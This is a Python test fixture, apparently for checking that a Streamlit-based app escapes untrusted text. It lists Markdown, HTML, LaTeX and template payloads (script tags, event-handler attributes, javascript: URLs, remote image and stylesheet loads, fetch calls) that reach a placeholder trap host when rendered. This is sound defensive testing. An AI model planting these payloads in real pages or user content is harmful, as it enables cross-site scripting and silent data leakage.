"""Text that a careless page would take for markup: each of these fetches TRAP or runs a script if it is."""

from __future__ import annotations

_SCRIPT = "fetch('TRAP/leak');window.sprung=1"
_PAYLOADS = [
    # Markdown
    "![x](TRAP/leak.png)",
    "![x](<TRAP/leak.png>)",
    '![x](TRAP/leak.png "title")',
    "![x][leak]\n\n[leak]: TRAP/leak.png",
    "[![x](TRAP/leak.png)](TRAP/leak)",
    "[x](TRAP/leak)",
    "[x](javascript:window.sprung=1)",
    "[x](JaVaScRiPt:window.sprung=1)",
    "[x](data:text/html,<script>window.sprung=1</script>)",
    "<TRAP/leak>",
    "TRAP/leak",
    "![x](//127.0.0.1:PORT/leak.png)",
    "![x](http&#58;&#47;&#47;127.0.0.1:PORT&#47;leak.png)",
    "# head ![x](TRAP/leak.png)",
    "> ![x](TRAP/leak.png)",
    "- ![x](TRAP/leak.png)",
    "| a | b |\n|---|---|\n| ![x](TRAP/leak.png) | c |",
    "*![x](TRAP/leak.png)*",
    "`x` ![x](TRAP/leak.png) `y`",
    "``` \n![x](TRAP/leak.png)\n```\n![x](TRAP/leak.png)",
    "[^1]\n\n[^1]: ![x](TRAP/leak.png)",
    "a\\\n![x](TRAP/leak.png)",
    # HTML
    f"<script>{_SCRIPT}</script>",
    "<script src=TRAP/leak.js></script>",
    '"><script src=TRAP/leak.js></script>',
    "</text><script src=TRAP/leak.js></script>",
    "<img src=TRAP/leak.png>",
    f'<img src=x onerror="{_SCRIPT}">',
    f"<img src=x onerror={_SCRIPT}>",
    f'<svg onload="{_SCRIPT}"></svg>',
    "<svg><image href=TRAP/leak.png></image></svg>",
    "<svg><script>window.sprung=1</script></svg>",
    "<iframe src=TRAP/leak></iframe>",
    '<iframe srcdoc="<script>top.sprung=1</script>"></iframe>',
    "<object data=TRAP/leak></object>",
    "<embed src=TRAP/leak>",
    "<link rel=stylesheet href=TRAP/leak.css>",
    "<link rel=prefetch href=TRAP/leak>",
    "<style>@import 'TRAP/leak.css';</style>",
    "<style>*{background:url(TRAP/leak.png)}</style>",
    '<div style="background:url(TRAP/leak.png)">x</div>',
    "<base href=TRAP/>",
    "<meta http-equiv=refresh content='0;url=TRAP/leak'>",
    "<video src=TRAP/leak autoplay></video>",
    "<video poster=TRAP/leak.png></video>",
    "<audio src=TRAP/leak autoplay></audio>",
    "<picture><source srcset=TRAP/leak.png><img src=x></picture>",
    "<input type=image src=TRAP/leak.png>",
    "<body background=TRAP/leak.png>",
    "<table background=TRAP/leak.png><tr><td>x</table>",
    "<form action=TRAP/leak><input type=submit autofocus onfocus=submit()></form>",
    f'<details open ontoggle="{_SCRIPT}">x</details>',
    f'<input autofocus onfocus="{_SCRIPT}">',
    f'<a href=TRAP/leak ping=TRAP/leak onmouseover="{_SCRIPT}">x</a>',
    "<a href=javascript:window.sprung=1>x</a>",
    "<math><mtext><img src=TRAP/leak.png></mtext></math>",
    "<noscript><img src=TRAP/leak.png></noscript>",
    "<template><img src=TRAP/leak.png></template><img src=TRAP/leak.png>",
    "<!--><img src=TRAP/leak.png>-->",
    "<![CDATA[<img src=TRAP/leak.png>]]>",
    "&lt;img src=TRAP/leak.png&gt;",
    "\\u003cimg src=TRAP/leak.png\\u003e",
    # LaTeX, Streamlit's directives, and what else Markdown is made of there
    "$\\includegraphics{TRAP/leak.png}$",
    "$$\\href{TRAP/leak}{x}$$",
    "$\\htmlData{x=1}{\\url{javascript:window.sprung=1}}$",
    ":red[![x](TRAP/leak.png)]",
    ":material/home: :small[<img src=TRAP/leak.png>]",
    "```mermaid\ngraph TD; A[<img src=TRAP/leak.png>]\n```",
    "{{constructor.constructor('window.sprung=1')()}}",
    "${fetch('TRAP/leak')}",
]


def payloads(trap: str) -> list[str]:
    port = trap.rpartition(":")[2]
    return [payload.replace("TRAP", trap).replace("PORT", port) for payload in _PAYLOADS]


def as_names(trap: str) -> list[str]:
    """Payloads that can be names of files: a slash is written as HTML and Markdown write it, too."""
    return [payload.replace("/", "&#47;").replace("\n", " ") for payload in payloads(trap)]
